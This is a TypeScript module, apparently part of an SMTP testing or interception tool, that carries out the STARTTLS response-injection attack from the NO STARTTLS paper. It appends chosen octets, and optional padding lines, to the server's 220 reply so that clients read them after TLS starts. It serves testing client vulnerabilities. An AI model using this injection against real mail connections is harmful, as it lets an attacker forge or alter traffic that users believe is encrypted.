/**
 * Appends octets to the server's 220 to STARTTLS, in the same write: the response injection of the NO STARTTLS paper. TLS
 * begins after them all the same. RFC 3207 §4.2: the client must discard what it knows from before TLS; octets that it
 * reads in TLS and got in clear are the attacker's.
 */
import { z } from 'zod'
import { defineBehaviour } from '../behaviour.ts'
import { passUnits } from '../wire/termination.ts'
import type { Reply } from '../wire/units.ts'
import { octets, octetsOf, quoted } from './starttls/octets.ts'

/** Octets of a reply line with its line end, at most; RFC 5321 §4.5.3.1.5. */
const LINE = 512

const parameters = z.strictObject({
  bytes: octets('250 2.0.0 injected\r\n', 'What follows the 220.'),
  reply: octets('', 'The octets in place of the 220 itself; empty leaves it.'),
  padTo: z
    .int()
    .min(0)
    .max(1024 * 1024)
    .default(0)
    .describe(
      'Lines of `220-` come before the 220 until both have this many octets together, 0 to 1048576; 0 for none.',
    ),
})

export const behaviour = defineBehaviour<z.infer<typeof parameters>>({
  id: 'inject-after-220',
  title: 'Injects octets behind the 220 to STARTTLS',
  source: ['NO STARTTLS (USENIX Security 2021): B_1', 'RFC 3207 §4.2, §6', 'CVE-2011-0411', 'CVE-2021-38371'],
  plane: 'smtp',
  parameters,
  shapes: ['starttls-reply'],
  hides: [],
  create({ bytes, reply, padTo }) {
    let asked: number | undefined
    const go = (original: Reply): Buffer => {
      const last = reply === '' ? original.bytes : octetsOf(reply)
      return Buffer.concat([padding(padTo - last.length), last])
    }
    return {
      on(event) {
        if (event.type === 'command' && event.verb === 'STARTTLS' && !event.secured) {
          asked = event.id
          return [{ type: 'opportunity', detail: 'STARTTLS arrived' }, event]
        }
        if (event.type === 'reply' && event.id === asked && event.code === 220) {
          return [
            { type: 'fired', detail: `injected ${quoted(bytes)} behind the 220`, original: event.bytes },
            { ...event, bytes: Buffer.concat([go(event), octetsOf(bytes)]) },
          ]
        }
        return passUnits(event)
      },
    }
  },
})

/** `length` octets of continued lines, none longer than {@link LINE}; none where they do not fill a line. */
function padding(length: number): Buffer {
  const lines: string[] = []
  const least = '220-\r\n'.length
  for (let left = length; left >= least; ) {
    const size = left <= LINE ? left : Math.min(LINE, left - least)
    lines.push(`220-${'.'.repeat(size - 6)}\r\n`)
    left -= size
  }
  return Buffer.from(lines.join(''), 'latin1')
}
